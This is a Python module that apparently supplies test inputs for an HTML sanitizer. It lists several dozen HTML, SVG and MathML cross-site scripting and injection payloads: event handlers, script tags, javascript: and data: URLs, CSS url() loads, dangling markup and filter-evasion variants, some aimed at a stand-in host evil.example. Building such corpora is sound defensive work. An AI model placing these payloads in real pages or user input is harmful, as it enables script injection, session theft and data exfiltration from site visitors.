"""Elements and attributes that act by themselves, each under what an attacker hopes from it.

Written from the HTML standard's own list of what runs, loads, submits or navigates. `RUN` is a
script that reports itself, `EVIL` an address of the attacker's, `NUMBER` the number of the text.
"""

HANDLERS = {
    "a handler where a picture fails": "<img src=/assets/none onerror=RUN>",
    "a handler in odd case": "<iMg SrC=/assets/none oNeRrOr=RUN>",
    "a handler with slashes for spaces": "<img/src='/assets/none'/onerror=RUN>",
    "a handler right behind a quote": '<img src="/assets/none"onerror="RUN">',
    "a handler behind a form feed": "<img src=/assets/none\x0conerror=RUN>",
    "a handler behind a line end": "<img src=/assets/none\nonerror\n=\nRUN>",
    "a handler written in references": "<img src=/assets/none onerror='&#114;an(NUMBER)'>",
    "a handler without semicolons": "<img src=/assets/none onerror='&#0000114an(NUMBER)'>",
    "a handler that comes twice": "<img src=/assets/none onerror=RUN onerror=1>",
    "a handler behind a stray quote": '<img """ src=/assets/none onerror=RUN>',
    "a handler behind a stray equals sign": "<img =x src=/assets/none onerror=RUN>",
    "a handler behind a backtick": "<img src=`/assets/none` onerror=RUN>",
    "a handler of a drawing": "<svg onload=RUN></svg>",
    "a handler of a drawing, unclosed": "<svg/onload=RUN//",
    "a handler of an animation": "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "a handler of a set": "<svg><set onbegin=RUN attributeName=x to=y></svg>",
    "a handler of a shape": "<svg><rect width=9 height=9 onmouseover=RUN /></svg>",
    "a handler of a formula": "<math><mi onmouseover=RUN>x</mi></math>",
    "a handler of the body": "<body onload=RUN onpageshow=RUN>",
    "a handler of a frameset": "<frameset onload=RUN>",
    "a handler of details": "<details open ontoggle=RUN>x</details>",
    "a handler of a field": "<input autofocus onfocus=RUN>",
    "a handler of a text area": "<textarea autofocus onfocus=RUN></textarea>",
    "a handler of a choice": "<select autofocus onfocus=RUN></select>",
    "a handler of a button": "<button autofocus onfocus=RUN>x</button>",
    "a handler of a label": "<label onclick=RUN>x</label>",
    "a handler of what can be edited": "<p contenteditable autofocus onfocus=RUN>x</p>",
    "a handler of what takes the focus": "<p tabindex=1 id=NUMBER onfocus=RUN>x</p>",
    "a handler of an unknown element": "<x onclick=RUN>x</x>",
    "a handler of an element of one's own": "<x-y onmouseover=RUN>x</x-y>",
    "a handler of an animated element": "<p style=animation-name:x onanimationstart=RUN>x</p>",
    "a handler of a transition": "<p style='transition:1s' ontransitionend=RUN>x</p>",
    "a handler of a film": "<video src=/assets/none onerror=RUN></video>",
    "a handler of a film's source": "<video><source src=/assets/none onerror=RUN></video>",
    "a handler of a sound": "<audio src=/assets/none onerror=RUN></audio>",
    "a handler of a frame": "<iframe onload=RUN></iframe>",
    "a handler of a style": "<style onload=RUN></style>",
    "a handler of a link": "<link rel=stylesheet href=/assets/none onerror=RUN>",
    "a handler of a plug-in": "<object data=/assets/none onerror=RUN></object>",
    "a handler of a marquee": "<marquee onstart=RUN>x</marquee>",
    "a handler of a dialog": "<dialog open onclick=RUN>x</dialog>",
    "a handler of a popover": "<p popover id=p onbeforetoggle=RUN ontoggle=RUN>x</p>",
    "a handler of scrolling": "<div onscroll=RUN onscrollend=RUN>x</div>",
    "a handler of a pointer": "<div onpointerenter=RUN>x</div>",
    "a handler inside a table": "<table><td onclick=RUN>x</td></table>",
    "a handler of an end tag's element": "</p onclick=RUN><br onclick=RUN>",
    "a handler of many": "<b onclick=RUN><i onclick=RUN><u onclick=RUN>x</u></i></b>",
}

SCRIPTS = {
    "a script": "<script>RUN</script>",
    "a script in odd case": "<ScRiPt>RUN</sCrIpT>",
    "a script with junk in its tags": "<script/x>RUN</script\t\n/y>",
    "a script from elsewhere": "<script src=EVIL></script>",
    "a script from elsewhere, unclosed": "<script src=//evil.example/NUMBER>",
    "a module": "<script type=module>RUN</script>",
    "a module from elsewhere": "<script type=module>import 'EVIL'</script>",
    "a map of imports": (
        '<script type=importmap>{"imports":{"x":"EVIL"}}</script>'
        "<script type=module>import 'x'</script>"
    ),
    "rules of speculation": (
        '<script type=speculationrules>{"prefetch":[{"urls":["EVIL"]}]}</script>'
    ),
    "a script of a drawing": "<svg><script>RUN</script></svg>",
    "a script of a drawing, elsewhere": "<svg><script href='EVIL' /></svg>",
    "a script of a formula": "<math><script>RUN</script></math>",
    "a script in two halves": "<scr<script>ipt>RUN</scr</script>ipt><script>RUN</script>",
    "a script behind a half tag": "<<script>RUN//<</script>",
    "a script behind the end of it all": "</div></section></main></body><script>RUN</script>",
}

LOADING = {
    "a base for all addresses": "<base href='https://evil.example/'><img src=NUMBER>",
    "a refreshing page": "<meta http-equiv=refresh content='0;url=EVIL'>",
    "a refreshing page, by data": (
        "<meta http-equiv=refresh content='0;url=data:text/html,<script>ran(NUMBER)</script>'>"
    ),
    "a policy of its own": "<meta http-equiv=content-security-policy content=x>",
    "a style sheet": "<link rel=stylesheet href=EVIL>",
    "a style sheet, imported": "<style>@import 'EVIL';</style>",
    "a style sheet, imported by address": "<style>@import url(EVIL);</style>",
    "a style that reads values": "<input value=a><style>input[value]{background:url(EVIL)}</style>",
    "a style with a font": (
        "<style>@font-face{font-family:x;src:url(EVIL)}b{font-family:x}</style><b>x</b>"
    ),
    "a style with content": "<style>body::after{content:url(EVIL)}</style>",
    "a style of a drawing": "<svg><style>@import 'EVIL';</style></svg>",
    "what is fetched in advance": "<link rel=prefetch href=EVIL>",
    "what is loaded in advance": "<link rel=preload as=script href=EVIL>",
    "a module loaded in advance": "<link rel=modulepreload href=EVIL>",
    "an icon": "<link rel=icon href=EVIL>",
    "a manifest": "<link rel=manifest href=EVIL>",
    "a plug-in": "<object data=EVIL></object>",
    "a plug-in, embedded": "<embed src=EVIL>",
    "a plug-in's old parameter": "<object><param name=movie value=EVIL></object>",
    "an applet": "<applet code=EVIL></applet>",
    "a frame": "<iframe src=EVIL></iframe>",
    "a frame of a frameset": "<frameset><frame src=EVIL></frameset>",
    "a frame with its page in it": "<iframe srcdoc='<script>parent.ran(NUMBER)</script>'></iframe>",
    "a frame, and references in its page": (
        "<iframe srcdoc='&lt;script&gt;parent.ran(NUMBER)&lt;/script&gt;'></iframe>"
    ),
    "a frame with a script's address": "<iframe src='javascript:parent.ran(NUMBER)'></iframe>",
    "a frame with a page's data": (
        "<iframe src='data:text/html,<script>ran(NUMBER)</script>'></iframe>"
    ),
    "a frame with an open sandbox": (
        "<iframe src=EVIL sandbox='allow-scripts allow-top-navigation'></iframe>"
    ),
    "a fenced frame": "<fencedframe src=EVIL></fencedframe>",
    "a portal": "<portal src=EVIL></portal>",
    "a picture of a drawing": "<svg><image href='EVIL' width=9 height=9 /></svg>",
    "a part of another drawing": "<svg><use href='EVIL#x' /></svg>",
    "a part of a drawing's data": (
        '<svg><use href=\'data:image/svg+xml,<svg id=x xmlns="http://www.w3.org/2000/svg">'
        "<script>ran(NUMBER)</script></svg>#x' /></svg>"
    ),
    "a filter of a drawing": "<svg><filter><feImage href='EVIL' /></filter></svg>",
    "a background of a text": "<p style='background:url(EVIL)'>x</p>",
    "a background of the body": "<body background=EVIL>",
    "a background of a table": "<table background=EVIL><td>x</table>",
    "a mark of a list": "<ul style='list-style-image:url(EVIL)'><li>x</ul>",
    "a border of a text": "<p style='border:9px solid;border-image-source:url(EVIL)'>x</p>",
    "a mask of a text": "<p style='mask-image:url(EVIL)'>x</p>",
    "a shape of a text": "<p style='float:left;shape-outside:url(EVIL)'>x</p>",
    "a cursor": "<p style='cursor:url(EVIL),auto'>x</p>",
    "a set of pictures for a style": "<p style='background-image:image-set(\"EVIL\" 1x)'>x</p>",
    "a property that is used": "<p style='--x:url(EVIL);background:var(--x)'>x</p>",
    "an escaped address of a style": "<p style='background:\\75rl(EVIL)'>x</p>",
    "a commented address of a style": "<p style='background:/**/url(EVIL)/**/'>x</p>",
    "a report of a click": "<a href=#x ping=EVIL>x</a>",
    "a report to advertisers": "<img src=/assets/none attributionsrc=EVIL>",
    "a picture of a field": "<input type=image src=EVIL>",
    "a half tag that swallows what follows": "<img src='EVIL?",
    "a half tag in a style": "<style>@import 'EVIL?",
    "a film's other tracks": "<video><track default src=EVIL></video>",
}

ACTING = {
    "a form": "<form action=EVIL><input name=x><button>x</button></form>",
    "a form with a script's address": "<form action='javascript:RUN'><button>x</button></form>",
    "a button's own form": "<form><button formaction='javascript:RUN'>x</button></form>",
    "a button of a form elsewhere": "<button form=f formaction=EVIL>x</button>",
    "a field that fills itself": "<input type=password name=password autocomplete=on>",
    "a button that commands": "<button commandfor=p command=show-popover>x</button>",
    "a button that opens": "<button popovertarget=p>x</button><p popover id=p>x</p>",
    "an element over all others": "<p style='position:fixed;inset:0;z-index:99'>x</p>",
    "a name that hides the document's": "<img name=cookie><form name=body></form>",
    "names that hide each other": "<a id=x name=y></a><a id=x name=z></a>",
    "an element of one's own": "<x-login is=x-login slot=x part=y>x</x-login>",
    "a root that shadows": "<p><template shadowrootmode=open><img src=EVIL></template></p>",
    "a slot": "<slot name=x onslotchange=RUN>x</slot>",
    "a link with a script's address": "<a href='javascript:RUN'>x</a>",
    "a link in a new window": "<a href='javascript:RUN' target=_blank>x</a>",
    "a link of a drawing": "<svg><a href='javascript:RUN'><text y=9>x</text></a></svg>",
    "an old link of a drawing": "<svg><a xlink:href='javascript:RUN'><text>x</text></a></svg>",
    "an animated link": (
        "<svg><a><animate attributeName=href values='javascript:RUN' /><text>x</text></a></svg>"
    ),
    "a link of a formula": "<math href='javascript:RUN'><mi>x</mi></math>",
    "a link of a map": "<map name=m><area href='javascript:RUN'></map><img usemap=#m>",
    "a link that keeps a hold on the page": "<a href=/ target=_blank rel=opener>x</a>",
    "a link into a frame of the page": "<a href=/ target=film>x</a>",
    "a citation": "<q cite='javascript:RUN'>x</q>",
    "a script for a page's own scripts": "<p data-href='javascript:RUN'>x</p>",
    "a script that looks like a picture": "<p data-src='javascript:image/**/;RUN'>x</p>",
}
ELEMENTS = {**HANDLERS, **SCRIPTS, **LOADING, **ACTING}
